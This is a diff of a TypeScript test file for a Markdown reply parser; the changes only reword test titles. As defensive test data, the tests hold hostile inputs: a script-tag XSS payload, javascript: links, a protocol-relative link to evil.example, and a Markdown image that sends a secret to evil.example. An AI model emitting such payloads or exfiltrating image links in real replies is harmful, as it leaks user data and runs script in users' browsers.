@@ -8,14 +8,14 @@ const inline = (line: string, allowed: (href: string) => string | undefined = al
 }
 
 describe('a reply', () => {
-  test('has paragraphs, and lines within them', () => {
+  test('has paragraphs with lines', () => {
     expect(parseReply('One\ntwo\n\nthree', allowAll)).toEqual([
       { kind: 'paragraph', lines: [[{ kind: 'text', text: 'One' }], [{ kind: 'text', text: 'two' }]] },
       { kind: 'paragraph', lines: [[{ kind: 'text', text: 'three' }]] }
     ])
   })
 
-  test('has lists, next to paragraphs without a blank line between them', () => {
+  test('has lists, which may follow a paragraph without a blank line', () => {
     expect(parseReply('Plans:\n- Starter\n- Professional\n1. One\n2) Two', allowAll).map(({ kind }) => kind)).toEqual([
       'paragraph',
       'bullets',
@@ -38,7 +38,7 @@ describe('a reply', () => {
     ])
   })
 
-  test('has code blocks, in which nothing is read as Markdown, also when the last is not closed', () => {
+  test('has code blocks without Markdown inside, even if the last one is not closed', () => {
     expect(parseReply('Run:\n```sh\nnpm **i**\n```\nDone\n```\nopen', allowAll)).toEqual([
       { kind: 'paragraph', lines: [[{ kind: 'text', text: 'Run:' }]] },
       { kind: 'code', text: 'npm **i**' },
@@ -47,7 +47,7 @@ describe('a reply', () => {
     ])
   })
 
-  test('shows names with underscores and lone stars as they are', () => {
+  test('shows names with underscores and single asterisks unchanged', () => {
     expect(inline('max_tokens_limit and 2 * 3 * 4')).toEqual([{ kind: 'text', text: 'max_tokens_limit and 2 * 3 * 4' }])
   })
 
@@ -56,18 +56,18 @@ describe('a reply', () => {
     '<script>alert(1)</script>',
     '![spy](https://evil.example/?q=secret)',
     '<a href="javascript:alert(1)">x</a>'
-  ])('shows %s as the text that it is', (hostile) => {
+  ])('shows %s as plain text', (hostile) => {
     const pieces = inline(hostile, (href) => allowedLink(href, 'https://site.test/', []))
     expect(pieces?.every(({ kind }) => kind === 'text')).toBe(true)
   })
 
-  test('keeps the words of a link that is not allowed', () => {
+  test('keeps the text of a link that is not allowed', () => {
     expect(inline('[click](javascript:alert)', (href) => allowedLink(href, 'https://site.test/', []))).toEqual([
       { kind: 'text', text: 'click' }
     ])
   })
 
-  test('is plain words for copying and for screen readers', () => {
+  test('has a plain text version for copying and for screen readers', () => {
     expect(plainReply('**Three** plans:\n\n- [Starter](/pricing)\n- `Pro`')).toBe('Three plans:\n\n- Starter\n- Pro')
   })
 })
@@ -106,7 +106,7 @@ describe('links in replies', () => {
     ['//evil.example/pay', undefined],
     ['/shop//evil.example', '/shop//evil.example'],
     ['https://site.test/shop/faq#one', '/shop/faq#one']
-  ])('of a site in a folder: %s leads to %s', (href, target) => {
+  ])('with a base path: %s leads to %s', (href, target) => {
     expect(allowedLink(href, 'https://site.test/shop/', [])).toBe(target)
   })
 })
